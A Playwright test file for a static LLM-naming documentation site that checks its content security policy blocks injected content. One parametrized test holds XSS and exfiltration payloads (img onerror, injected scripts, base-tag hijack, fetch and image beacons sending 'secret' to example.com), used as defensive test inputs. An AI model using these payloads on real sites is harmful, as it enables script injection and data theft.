"""Every kind of page under its content security policy: nothing is reported, and everything works."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect

from tests.browser.decoder_page import DecoderPage
from tests.browser.demo_page import DemoPage
from tests.browser.picker_page import PickerPage
from tests.browser.server import SiteServer

TEMPLATES = [
    "", "decode/", "choose/", "glossary/", "guide/", "guide/what-is-an-llm/", "guide/whats-in-a-name/",
    "guide/suffixes/", "guide/quantization/", "families/", "families/qwen3/", "contributing/", "api/", "404.html",
    "no/such/page/",
]  # fmt: skip
WATCH = """document.addEventListener("securitypolicyviolation", (event) =>
    console.error(`refused: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`))"""
NAME = "SorskootLLM-v2-13b-chat"


@pytest.fixture(params=["in the page", "in the page and in headers"])
def strict(request: pytest.FixtureRequest, browser: Browser, site_server: SiteServer) -> Iterator[BrowserContext]:
    """A browser in which any report of a violation fails the test; with headers from hosts that read `_headers`, too."""
    reports: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if re.search("refused|Content Security Policy|TrustedHTML|TrustedScript", message.text, re.IGNORECASE):
            reports.append(message.text)

    context = browser.new_context(base_url=site_server.url)
    context.set_default_timeout(60_000)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script(WATCH)
    context.on("console", note)
    site_server.sends_headers = request.param != "in the page"
    yield context
    context.close()
    site_server.sends_headers = False
    assert reports == []


def test_every_page_has_a_policy(built_site: Path) -> None:
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 150
    policies = {
        re.findall('http-equiv="Content-Security-Policy" content="([^"]*)"', page.read_text("utf-8"))[0]
        for page in pages
    }
    assert len(policies) == 1
    assert f"{policies.pop()}; frame-ancestors 'none'" in (built_site / "_headers").read_text("utf-8")


def test_no_template_breaks_its_policy(strict: BrowserContext) -> None:
    page = strict.new_page()
    for address in TEMPLATES:
        page.goto(address, wait_until="load")
        expect(page.locator("html")).not_to_have_class("no-js")
    page.goto("", wait_until="load")
    for title in ("Choose", "Families", "Decode"):  # one page in the document of another
        page.get_by_role("link", name=title, exact=True).first.click()
        expect(page).to_have_url(re.compile(f"/{title.lower()}/$"))


def test_the_widgets_work(strict: BrowserContext) -> None:
    decoder = DecoderPage(strict.new_page()).open(f"decode/#q={NAME}")
    expect(decoder.answer(NAME)).to_contain_text("13 billion")
    decoder.button("Copy as Markdown").click()
    expect(decoder.page.locator("[data-copy=markdown]")).to_have_text("Copied")
    decoder.page.get_by_role("link", name="Many at once").click()
    decoder.page.get_by_label("Model names, one on each line").fill(f"{NAME}\nllama-7b")
    decoder.page.get_by_role("button", name="Explain all").click()
    decoder.page.locator(".np-list-rows a.np-open").first.click()
    expect(decoder.page.locator(".np-detail")).to_contain_text("13 billion")
    with decoder.page.expect_download():
        decoder.page.get_by_role("button", name="Download CSV").click()
    picker = PickerPage(strict.new_page()).open(names="Qwen3-8B,Qwen3-8B-Base", task="chat", machine="RTX 4090")
    picker.answer()
    expect(picker.unfold("others")).to_have_attribute("open", "")
    demo = DemoPage(strict.new_page(), "quantization").open("guide/quantization/").press("Q4_K")
    expect(demo.says).to_contain_text("the layout of Q4_K")


def test_the_theme_works(strict: BrowserContext) -> None:
    page = strict.new_page()
    page.goto("families/qwen3/")
    page.locator(".md-search__input").fill("perplexity")
    expect(page.locator(".md-search-result__link").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator("form.md-header__option label:visible").click()
    page.locator("article a[title]:visible").first.hover()
    page.goto("guide/suffixes/")
    page.locator("nameplate-filter input").fill("qwen3")
    expect(page.locator("nameplate-filter output")).to_contain_text("of")


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hit = 1' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/x.js' }))",
        "document.body.append(Object.assign(document.createElement('base'), { href: 'https://example.com/' }))",
        "fetch('https://example.com/?q=secret', { mode: 'no-cors' })",
        "document.body.append(Object.assign(new Image(), { src: 'https://example.com/?q=secret' }))",
        "trustedTypes.createPolicy('another', { createHTML: (html) => html })",
    ],
)
def test_the_policy_stops_what_gets_into_a_page(browser: Browser, site_server: SiteServer, attack: str) -> None:
    context = browser.new_context(base_url=site_server.url)
    page = context.new_page()
    asked: list[str] = []
    page.on("requestfailed", lambda request: asked.append(f"{request.url} {request.failure}"))
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto("api/")
    refused = page.evaluate(f"""() => new Promise((resolve) => {{
        document.addEventListener("securitypolicyviolation", () => resolve("refused"))
        setTimeout(() => resolve("allowed"), 10_000)
        try {{
            Promise.resolve({attack}).catch(() => {{}})
        }} catch {{
            resolve("refused")
        }}
    }})""")
    assert refused == "refused"
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.baseURI").startswith(site_server.url)
    assert [url for url in asked if "example.com" in url and not url.endswith(" csp")] == []
    context.close()


def test_no_cookie_is_set(page: Page, context: BrowserContext) -> None:
    for address in ("decode/#q=llama-7b", "choose/", "glossary/"):
        page.goto(address, wait_until="load")
    assert context.cookies() == []
    assert page.evaluate("document.cookie") == ""


def test_refused_storage_leaves_search_theme_and_widget_working(page: Page) -> None:
    page.add_init_script("""for (const kind of ["localStorage", "sessionStorage"])
        Object.defineProperty(window, kind, { configurable: true, get() { throw new DOMException("denied", "SecurityError") } })
    Object.defineProperty(window, "caches", { get() { throw new DOMException("denied", "SecurityError") } })
    navigator.serviceWorker.register = () => Promise.reject(new DOMException("denied", "SecurityError"))""")
    decoder = DecoderPage(page).open(f"decode/#q={quote(NAME)}")
    decoder.answer(NAME)
    page.locator(".md-search__input").fill("perplexity")
    expect(page.locator(".md-search-result__link").first).to_be_visible()
    page.keyboard.press("Escape")
    page.emulate_media(color_scheme="light")
    before = page.evaluate("document.body.dataset.mdColorScheme")
    for _ in range(2):
        page.locator("form.md-header__option label:visible").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before)
